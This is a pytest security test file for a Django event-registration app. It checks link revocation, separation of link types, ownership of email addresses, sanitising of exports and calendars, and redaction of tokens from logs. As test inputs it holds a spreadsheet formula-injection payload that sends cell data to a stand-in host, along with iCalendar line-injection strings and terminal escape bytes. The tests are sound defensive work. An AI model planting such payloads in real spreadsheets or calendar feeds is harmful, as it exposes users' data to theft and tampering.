"""What a stranger, a former holder of a link, or a text made to run could do, and cannot."""

from __future__ import annotations

import logging
import re
from datetime import timedelta
from io import BytesIO, StringIO
from zipfile import ZipFile

import icalendar
import pytest
from allauth.account.models import EmailAddress
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from rresi.accounts.roles import OPERATOR, Actor
from rresi.events import links
from rresi.events.attendees import calendar_token
from rresi.events.forms.session import SessionForm
from rresi.events.models import (
    Event,
    Invitation,
    Question,
    QuestionText,
    Registration,
    hash_of,
)
from rresi.events.queries.desk import hosts_of
from rresi.events.services import organising, progress, registration, seats
from rresi.events.services.registration import Person, Wanted
from rresi.operations.logs import JSONLines, Sampled
from tests.factories.accounts import make_person
from tests.factories.aftermath import make_past_event
from tests.factories.events import make_event, make_host, make_organiser, make_session, make_venue
from tests.factories.registrations import make_registration, make_seat

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://example.org?"&A2,"open")'


def test_no_link_of_an_erased_registration_opens_anything(client: Client) -> None:
    event = make_event()
    person = make_registration(event)
    path = links.path_for(person)
    token = calendar_token(event, f"registration:{person.pk}", person.links)
    calendar = f"/en/events/visit/calendar/{token}.ics"
    assert client.get(path).status_code == 200
    assert client.get(calendar).status_code == 200
    progress.erase(registration=person)
    assert client.get(path).status_code == 404
    assert client.get(calendar).status_code == 404
    assert client.post(f"{path}act/", {"do": "rejoin"}).status_code == 404


def test_only_a_link_that_is_replaced_ends_with_its_calendar(client: Client) -> None:
    event = make_event()
    person = make_registration(event)

    def calendar() -> str:
        shown = client.get(links.path_for(person)).content.decode()
        found = re.search(r"/en/events/visit/calendar/[^\"]+\.ics", shown)
        assert found
        return found[0]

    before = calendar()
    assert client.get(before).status_code == 200
    progress.send_link(event=event, email=person.email)  # anybody may have asked for it
    person.refresh_from_db()
    assert client.get(before).status_code == 200
    own = links.path_for(person)
    answer = client.post(links.path_for(person, "events:mine_link"))
    person.refresh_from_db()
    assert answer["Location"] == links.path_for(person, "events:mine_data")
    assert client.get(own).status_code == client.get(before).status_code == 404
    assert client.get(calendar()).status_code == 200
    assert "Earlier links no longer work" in str(mail.outbox[-1].body)
    assert client.get(str(mail.outbox[-1].body).split()[-1]).status_code == 200


def test_who_asks_for_somebody_s_link_ends_no_link_of_theirs(client: Client) -> None:
    event = make_event()
    person = make_registration(event, email="bo@example.org")
    own = links.path_for(person)
    for _again in range(2):
        client.post(reverse("events:lost_link", args=[event.slug]), {"email": "BO@example.org"})
    assert client.get(own).status_code == 200
    sent = [str(one.body).split()[-1] for one in mail.outbox]
    assert [client.get(link).status_code for link in sent] == [200, 200]
    assert not any("no longer work" in str(one.body) for one in mail.outbox)


def test_once_registration_is_closed_the_public_page_leads_to_a_lost_link(client: Client) -> None:
    asks = "Already registered but lost your link?"
    open_page = client.get(f"/en/events/{make_event().slug}/").content.decode()
    assert asks not in open_page  # the form has it
    past = make_past_event("past")
    path = reverse("events:lost_link", args=["past"])
    assert path in client.get(f"/en/events/{past.slug}/").content.decode()
    long_ago = timezone.localdate() - timedelta(days=800)
    Event.objects.filter(pk=past.pk).update(start=long_ago, end=long_ago)
    assert path not in client.get(f"/en/events/{past.slug}/").content.decode()
    Event.objects.filter(pk=past.pk).update(start=None, end=None, year=2021)
    of_a_year = client.get(f"/en/events/{past.slug}/").content.decode()
    assert path not in of_a_year
    assert '<span class="glance__number">2021' not in of_a_year  # the picture says it large


def test_hosts_without_a_name_and_led_by_show_no_address(client: Client) -> None:
    event = make_event()
    host = make_host(event, make_person("secret@example.org", name=""))
    assert hosts_of(event) == "a host without a name"
    assert host.email not in hosts_of(event)
    form = SessionForm({"host_name": "secret@example.org"}, event=event, venues=[], practices=[])
    assert "instead of an email address" in str(form.errors["host_name"])


def test_one_kind_of_link_opens_no_page_of_another(client: Client) -> None:
    event, other = make_event(), make_event("other")
    person = make_registration(event)
    token = calendar_token(event, f"registration:{person.pk}", person.links)
    assert client.get(f"/en/events/mine/{token}/").status_code == 404
    own = links.token_for(person)
    assert client.get(f"/en/events/visit/calendar/{own}.ics").status_code == 404
    assert client.get(f"/en/events/{other.slug}/calendar/{token}.ics").status_code == 404


def test_a_link_of_a_cancelled_event_shows_and_changes_nothing_more(client: Client) -> None:
    event = make_event()
    person = make_registration(event)
    event.status = "cancelled"
    event.save()
    seats.refill(event=event)
    path = links.path_for(person)
    assert client.get(path).status_code == 200
    assert client.post(f"{path}act/", {"do": "rejoin"}).status_code == 409
    assert client.post(f"{path}change/", {"name": "Other"}).status_code == 302
    person.refresh_from_db()
    assert (person.state, person.ending) == ("cancelled", "event")


def test_an_address_that_an_account_has_not_confirmed_is_not_its_own() -> None:
    event = make_event()
    theirs = make_registration(event, email="victim@example.org")
    someone = make_person("someone@example.org")
    EmailAddress.objects.create(user=someone, email=theirs.email, verified=False)
    wanted = Wanted(Person(name="Someone", email=theirs.email, country="NL"))
    actor = Actor(user_id=someone.pk)
    done = registration.register(actor=actor, event=event, wanted=wanted, key="k")
    assert (done.registration, done.new, done.own) == (theirs, False, False)
    fresh = Wanted(Person(name="Someone", email="new@example.org", country="NL"))
    EmailAddress.objects.create(user=someone, email="new@example.org", verified=False)
    done = registration.register(actor=actor, event=event, wanted=fresh, key="l")
    assert done.registration.address_confirmed_at is None
    assert done.registration.account_id is None


def test_an_invitation_registers_its_own_address_alone(client: Client) -> None:
    event = make_event()
    organising.invite(actor=OPERATOR, event=event, people=[("a@example.org", "")], language="en")
    token = str(mail.outbox[0].body).partition("invitation=")[2].split()[0]
    assert Invitation.objects.get().token_hash == hash_of(token)
    form = {"name": "B", "email": "b@example.org", "country": "NL", "key": "k", "invitation": token}
    client.post("/en/events/visit/register/", form)
    assert Registration.objects.get().email == "a@example.org"


def test_no_export_holds_a_formula(client: Client) -> None:
    event = make_event()
    question = Question.objects.create(event=event, position=1)
    QuestionText.objects.create(question=question, language="en", label=FORMULA)
    person = make_registration(event, name=FORMULA, organisation_name="@SUM(1)", job="+1")
    person.answers.create(question=question, value="-2+3")
    client.force_login(make_organiser(event, make_person()))
    files = ("people/file/", "register.xlsx")
    for path in files:
        answer = client.get(f"/en/events/visit/desk/{path}")
        assert answer.status_code == 200, path
        book = CalamineWorkbook.from_filelike(BytesIO(answer.content))
        rows = book.get_sheet_by_index(0).to_python()
        assert any(FORMULA in row for row in rows)
        assert b"<f>" not in _unpacked(answer.content)


def _unpacked(content: bytes) -> bytes:
    with ZipFile(BytesIO(content)) as file:
        return b"".join(file.read(name) for name in file.namelist())


def test_no_text_adds_a_line_to_a_calendar(client: Client) -> None:
    title = "Talk\r\nATTACH:https://example.org/x\rEND:VEVENT\x0b\x1b[2J"
    event = make_event(name=title)
    venue = make_venue(event, name="Hall\nX-EVIL:1", address="Street\r\nX-EVIL:2")
    session = make_session(event, title, venue=venue, capacity=2)
    make_seat(make_registration(event), session)
    answer = client.get("/en/events/visit/calendar.ics")
    names = {line.partition(b":")[0] for line in answer.content.split(b"\r\n")}
    assert not {name for name in names if name.startswith((b"ATTACH", b"X-EVIL"))}
    assert b"\x0b" not in answer.content
    assert b"\x1b" not in answer.content
    (entry,) = icalendar.Calendar.from_ical(answer.content).walk("VEVENT")
    assert str(entry["summary"]).startswith("Talk\nATTACH")


def test_no_log_holds_a_personal_link(client: Client) -> None:
    token = links.token_for(make_registration(make_event()))
    written = StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(JSONLines())
    handler.addFilter(Sampled())
    loggers = [logging.getLogger(name) for name in ("rresi.requests", "django.request")]
    before = [(one, one.level) for one in loggers]
    for one in loggers:
        one.addHandler(handler)
        one.setLevel(logging.DEBUG)
    try:
        for path in (f"/en/events/mine/{token}/", f"/en/events/mine/{token}x/", f"/{token}"):
            client.get(path)
            client.get(path, {"invitation": token})
        client.post(f"/en/events/mine/{token}/act/", {"do": "accept"})
    finally:
        for one, level in before:
            one.removeHandler(handler)
            one.setLevel(level)
    assert "/events/mine/<str:token>/" in written.getvalue()
    assert token not in written.getvalue()
